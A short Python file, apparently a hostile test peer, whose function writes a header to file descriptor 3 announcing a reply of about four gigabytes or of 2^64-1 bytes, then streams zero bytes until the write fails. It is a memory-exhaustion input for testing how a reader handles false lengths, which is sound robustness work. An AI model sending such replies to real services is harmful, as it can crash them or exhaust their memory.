"""Announces replies of four gigabytes and of all the memory that there is, and sends a part of them."""

import os
import struct


def unlock(salt):
    announced = (2**32 - 1, 0) if salt[0] < "g" else (3, 2**64 - 1)
    os.write(3, struct.pack("<IQ", *announced))
    try:
        while True:
            os.write(3, bytes(1 << 16))
    except OSError:
        return salt


def shift(x):
    return x + 1
